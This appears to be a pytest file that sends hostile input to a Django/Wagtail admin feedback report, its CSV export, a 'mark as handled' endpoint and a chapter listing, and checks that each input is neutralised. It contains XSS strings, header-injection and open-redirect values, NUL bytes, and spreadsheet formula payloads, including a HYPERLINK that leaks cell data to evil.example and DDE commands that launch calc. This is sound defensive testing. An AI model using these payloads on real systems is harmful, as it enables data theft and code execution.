"""Hostile input to our own admin views: the feedback report, its CSV, "mark as handled" and the chapter listing."""

import csv
import io

from django.urls import reverse

from wagtail.models import Page

import pytest

from feedback.models import PageFeedback
from guidance_pages.demo import FULLY_TRANSLATED_GUIDE
from guidance_pages.models import GuideChapterPage, GuidePage
from tests.hostile import database_state

pytestmark = pytest.mark.django_db

REPORT = "/admin/reader-feedback/"


@pytest.fixture
def chapter():
    guide = GuidePage.objects.get(locale__language_code="en", slug=FULLY_TRANSLATED_GUIDE)
    return GuideChapterPage.objects.child_of(guide).live().first()


@pytest.fixture
def comment(chapter):
    return PageFeedback.objects.create(page=chapter, language_code="en", useful=False, comment="The font is too small")


@pytest.fixture
def reviewer(client, users):
    client.force_login(users["reviewer"])
    return client


@pytest.mark.parametrize(
    "query",
    [
        pytest.param("date_from=0000-00-00", id="year-zero"),
        pytest.param("date_to=2026-02-30", id="thirtieth-of-february"),
        pytest.param("date_from=99999-01-01", id="five-digit-year"),
        pytest.param("date_from=%00", id="nul-byte-date"),
        pytest.param("date_from=2026-12-31&date_to=2026-01-01", id="dates-backwards"),
        pytest.param("guide=%00", id="nul-byte-guide"),
        pytest.param("guide=00000000-0000-0000-0000-000000000000", id="guide-that-does-not-exist"),
        pytest.param("guide=" + "a" * 10_000, id="ten-thousand-character-guide"),
        pytest.param("language=%00", id="nul-byte-language"),
        pytest.param("language=xx", id="unknown-language"),
        pytest.param("status=%3Cscript%3E", id="markup-status"),
        pytest.param("date_from=%22%3E%3Cscript%3Ealert(1)%3C/script%3E", id="markup-date"),
    ],
)
def test_bad_report_filters_are_reported_and_ignored(reviewer, comment, query):
    before = database_state()
    response = reviewer.get(f"{REPORT}?{query}")
    assert response.status_code == 200
    assert "error-message" in response.text or "help-critical" in response.text
    assert "The font is too small" in response.text  # the filter is ignored: everything is shown
    assert "<script>alert(1)" not in response.text
    assert database_state() == before


@pytest.mark.parametrize(
    "query",
    [
        pytest.param("page=99999999999999999999", id="huge"),
        pytest.param("page=-3", id="negative"),
        pytest.param("page=%00", id="nul-byte"),
        pytest.param("page=abc", id="not-a-number"),
    ],
)
def test_any_page_of_comments_shows_comments(reviewer, comment, query):
    response = reviewer.get(f"{REPORT}?{query}")
    assert response.status_code == 200
    assert "The font is too small" in response.text


def test_csv_with_bad_filters_is_still_a_csv_of_everything(reviewer, comment):
    response = reviewer.get(f"{REPORT}?export=csv&date_from=yesterday&guide=%00")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert len(rows) == 2  # header, and the one chapter with an answer


@pytest.mark.parametrize(
    "title",
    [
        pytest.param('=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")', id="hyperlink-formula"),
        pytest.param("+cmd|' /C calc'!A0", id="plus-dde"),
        pytest.param("-2+3+cmd|' /C calc'!A0", id="minus-formula"),
        pytest.param("@SUM(1+1)*cmd|' /C calc'!A0", id="at-formula"),
        pytest.param("\t=1+1", id="tab-then-formula"),
        pytest.param("\r=1+1", id="carriage-return-then-formula"),
    ],
)
def test_csv_neutralises_formulas_in_titles(reviewer, chapter, title):
    Page.objects.filter(pk=chapter.pk).update(title=title)
    Page.objects.filter(pk=chapter.get_parent().pk).update(title=title)
    PageFeedback.objects.create(page=chapter, language_code="en", useful=True, comment=title)
    response = reviewer.get(f"{REPORT}?export=csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    assert rows[1][:2] == [f"'{title}", f"'{title}"]  # guide and chapter, each made plain text
    # Comments are not exported at all, so the same formula in a comment cannot reach a spreadsheet.
    assert title not in [cell for row in rows for cell in row]


def test_a_formula_in_a_comment_is_shown_as_text_in_the_report(reviewer, chapter):
    formula = '=HYPERLINK("https://evil.example","Click")'
    PageFeedback.objects.create(page=chapter, language_code="en", useful=False, comment=formula)
    html = reviewer.get(REPORT).text
    assert "=HYPERLINK(&quot;https://evil.example&quot;,&quot;Click&quot;)" in html
    assert formula not in reviewer.get(f"{REPORT}?export=csv").content.decode("utf-8-sig")


@pytest.mark.parametrize("feedback_id", ["999999", "0", "99999999999999999999"])
def test_marking_a_comment_that_does_not_exist_says_so_on_the_report(reviewer, comment, feedback_id):
    before = database_state()
    response = reviewer.post(f"{REPORT}{feedback_id}/handled/", {"handled": "1", "query": "status=open"})
    assert response.status_code == 302
    assert response["Location"] == f"{REPORT}?status=open"
    assert "This comment could not be found. It may have been deleted." in reviewer.get(response["Location"]).text
    assert database_state() == before


def test_marking_by_get_is_refused(reviewer, comment):
    response = reviewer.get(reverse("feedback_mark_handled", args=[comment.pk]))
    assert response.status_code == 405
    comment.refresh_from_db()
    assert not comment.handled


def test_an_id_that_is_not_a_number_is_not_found(reviewer, comment):
    before = database_state()
    response = reviewer.post(f"{REPORT}abc/handled/", {"handled": "1"}, follow=True)
    assert response.status_code == 404
    assert database_state() == before


@pytest.mark.parametrize(
    ("query", "location"),
    [
        pytest.param("\r\nSet-Cookie: stolen=1", REPORT, id="header-injection"),
        pytest.param("status=open\rSet-Cookie: stolen=1", f"{REPORT}?status=open%0DSet-Cookie:%20stolen=1", id="carriage-return"),
        pytest.param("https://evil.example/", f"{REPORT}?https://evil.example/", id="another-site"),
        pytest.param("status=open\x00", f"{REPORT}?status=open%00", id="nul-byte"),
    ],
)
def test_going_back_to_the_report_stays_on_the_report(reviewer, comment, query, location):
    response = reviewer.post(reverse("feedback_mark_handled", args=[comment.pk]), {"handled": "1", "query": query})
    assert response.status_code == 302
    assert response["Location"] == location
    assert "stolen" not in response.cookies
    assert reviewer.get(response["Location"]).status_code == 200


def test_an_editor_cannot_mark_a_comment_even_by_hand(client, users, comment):
    client.force_login(users["editor"])
    before = database_state()
    response = client.post(reverse("feedback_mark_handled", args=[comment.pk]), {"handled": "1"})
    assert response.status_code in {302, 403}
    assert database_state() == before


@pytest.mark.parametrize(
    "query",
    [
        pytest.param("q=%00", id="nul-byte-search"),
        pytest.param("q=" + "x" * 10_000, id="ten-thousand-character-search"),
        pytest.param("q=%26%7C%21%3A%2A%28%29%27", id="tsquery-operators"),
        pytest.param("q=%3Cscript%3Ealert(1)%3C/script%3E", id="script-search"),
        pytest.param("ordering=%00", id="nul-byte-ordering"),
        pytest.param("ordering=password", id="unknown-ordering"),
        pytest.param("p=99999999999999999999", id="huge-page"),
        pytest.param("p=-1", id="negative-page"),
        pytest.param("content_type=abc&owner=abc", id="filters-not-numbers"),
        pytest.param("latest_revision_created_at_from=yesterday", id="bad-date-filter"),
    ],
)
def test_the_chapter_listing_answers_any_query(reviewer, comment, query):
    before = database_state()
    response = reviewer.get(reverse("guide_chapters:index") + "?" + query)
    assert response.status_code == 200
    assert "<script>alert(1)" not in response.text
    assert database_state() == before


def test_the_chapter_listing_with_an_unknown_language_is_not_found(reviewer):
    response = reviewer.get(reverse("guide_chapters:index") + "?locale=xx", follow=True)
    assert response.status_code == 404
